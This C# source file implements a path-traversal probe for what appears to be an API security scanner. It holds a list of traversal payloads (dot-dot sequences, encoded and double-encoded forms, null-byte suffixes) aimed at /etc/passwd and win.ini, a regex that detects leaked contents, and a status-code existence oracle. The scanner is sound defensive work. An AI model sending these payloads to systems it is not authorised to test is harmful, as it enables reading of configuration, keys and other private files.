using System.Text.RegularExpressions;
using Assay.Contract;
using Assay.Contract.OpenApi;
using Assay.Probe.Answers;
using Assay.Probe.Generation;
using Assay.Probe.Places;
using Assay.Probe.Transport;

namespace Assay.Probe.Probes.Request;

/// <summary>Path traversal: a value leads out of the folder that was meant.</summary>
public sealed partial class PathTraversal : InputProbe
{
    private static readonly string[] FileWords =
    [
        "file", "filename", "path", "name", "template", "page", "doc", "document", "folder", "dir", "directory", "lang", "language", "locale", "theme",
        "view", "report", "attachment", "image", "img", "photo", "picture", "download", "load", "include", "source", "src", "url", "key", "resource", "asset",
        "layout", "style", "log", "backup", "export", "content", "module", "plugin", "cover", "avatar", "leaflet", "topic", "slug", "id",
    ];

    private static readonly string[] ReadingWords = ["read", "load", "view", "preview", "render", "download", "show", "get", "open", "fetch", "print", "export", "report", "search", "include"];

    private static readonly string[] ContentWords = ["content", "contents", "data", "text", "body", "bytes", "base64", "upload", "payload"];

    // {0} the path below the root without its first slash. Texts are percent-encoded once more on their way.
    private static readonly string[] Forms =
    [
        "../../../../../../../../{0}", "/{0}", "..\\..\\..\\..\\..\\..\\..\\..\\{0}", "....//....//....//....//....//....//....//{0}",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f{0}", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f{0}",
        "..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f{0}", "{1}/../../../../../../../../{0}", "../../../../../../../../{0}\0{2}",
        "../../../../../../../../{0}\0", "..;/..;/..;/..;/..;/..;/..;/{0}", "file:///{0}", "..././..././..././..././..././..././..././{0}",
    ];

    /// <inheritdoc/>
    public override string Code => "ZTP122";

    /// <inheritdoc/>
    public override string Name => "path-traversal";

    /// <inheritdoc/>
    public override Threat Threat => Threat.PathTraversal;

    /// <inheritdoc/>
    public override Flow Flow => Flow.Request;

    /// <inheritdoc/>
    public override string Doc => """
        ## What it does
        Writes ways out of a folder (`../`, absolute, encoded once and twice, with a final zero) to files that every system has.
        It is a finding where an answer holds such a file, or where files that exist bring another answer than files that do
        not, several of each. Nothing is sent to operations that might write a file.
        ## Why it matters
        The attacker reads configuration, keys and source code, then everything else.
        ## Bad
        ```http
        GET /leaflets?file=../../../../etc/passwd HTTP/1.1

        HTTP/1.1 200

        root:x:0:0:root:/root:/bin/bash
        ```
        ## Good
        ```http
        GET /leaflets?file=../../../../etc/passwd HTTP/1.1

        HTTP/1.1 404
        ```
        """;

    internal override string Hint => "take files by an id from a list; else resolve the full path and refuse it where it does not begin with the folder's";

    internal override bool Concerns(Subject subject) => base.Concerns(subject) && IsReading(subject);

    internal override bool Takes(Place place) =>
        Inputs.TakesText(place.Schema) && (place.Parameter?.In != ParameterLocation.Header || Words.Of(place.Name).Intersect(FileWords).Any());

    internal override string Says(string operation, string place) => $"`{operation}` reads the file that `{place}` leads to, wherever it is";

    internal override async Task<InputProof?> TryAsync(Foothold target)
    {
        if (HoldsFile(target.Control.Answer.Text) || HoldsFile(target.Nonsense.Answer.Text))
        {
            return null;
        }

        foreach (var form in Forms)
        {
            foreach (var file in (string[])["etc/passwd", "windows/win.ini"])
            {
                var attack = await SendAsync(target, form, file);
                if (!HoldsFile(attack.Answer.Text))
                {
                    continue;
                }

                var missing = await SendAsync(target, form, $"etc/zq{target.Scene.Mark}");
                var again = await SendAsync(target, form, file);
                if (!HoldsFile(missing.Answer.Text) && HoldsFile(again.Answer.Text))
                {
                    return new InputProof(attack, $"the answer holds the server's `/{file}`, twice; a file that does not exist brings {missing.Answer}");
                }
            }
        }

        return Words.Of(target.Place.Name).Intersect(FileWords).Any() ? await ExistenceAsync(target) : null;
    }

    // Files that exist bring one answer, files that do not another: the contents stay hidden, the way out does not.
    private static async Task<InputProof?> ExistenceAsync(Foothold target)
    {
        string[] existing = ["etc/group", "etc/hosts", "proc/version", "etc/passwd"];
        foreach (var form in Forms.Take(8))
        {
            var first = await SendAsync(target, form, existing[0]);
            var none = await SendAsync(target, form, "etc/zqoup");
            if (first.Answer.Status == none.Answer.Status || first.Answer.Status == 429 || none.Answer.Status == 429 || first.Answer.Failure != SendFailure.None || none.Answer.Failure != SendFailure.None)
            {
                continue;
            }

            var all = true;
            for (var i = 1; all && i < existing.Length; i++)
            {
                // Names of one length and sound: a filter of words must not look like a file system.
                var there = await SendAsync(target, form, existing[i]);
                var gone = await SendAsync(target, form, existing[i][..^3] + "zqx");
                all = there.Answer.Status == first.Answer.Status && gone.Answer.Status == none.Answer.Status;
            }

            if (all)
            {
                return new InputProof(first, $"four files that every system has bring {first.Answer}, four that do not exist bring {none.Answer}: the server looks for them");
            }
        }

        return null;
    }

    private static Task<Exchange> SendAsync(Foothold target, string form, string file)
    {
        var dot = target.Value.LastIndexOf('.');
        var folder = target.Value.Split('/')[0];
        return target.SendAsync(form.Replace("{0}", form.Contains('\\') ? file.Replace('/', '\\') : file, StringComparison.Ordinal)
            .Replace("{1}", folder, StringComparison.Ordinal).Replace("{2}", dot < 0 ? ".txt" : target.Value[dot..], StringComparison.Ordinal));
    }

    // A name that is written to is not one to play with.
    private static bool IsReading(Subject subject)
    {
        if (subject.Operation.IsSafe)
        {
            return true;
        }

        var body = subject.Arguments.Body as System.Text.Json.Nodes.JsonObject;
        return subject.Operation.Method == "POST"
            && subject.Operation.Path.Split('/').Where(s => !s.StartsWith('{')).SelectMany(Words.Of).Concat(Words.Of(subject.Operation.OperationId ?? "")).Intersect(ReadingWords).Any()
            && body?.Any(m => Words.Of(m.Key).Intersect(ContentWords).Any()) != true;
    }

    private static bool HoldsFile(string text) => File().IsMatch(text);

    // As it is, as JSON writes it, and as base64.
    [GeneratedRegex(@"root:[^:\s\\]{0,4}:0:0:|cm9vdDp4OjA6MDpyb290|; for 16-bit app support|OyBmb3IgMTYtYml0IGFwcCBzdXBwb3J0", RegexOptions.NonBacktracking)]
    private static partial Regex File();
}
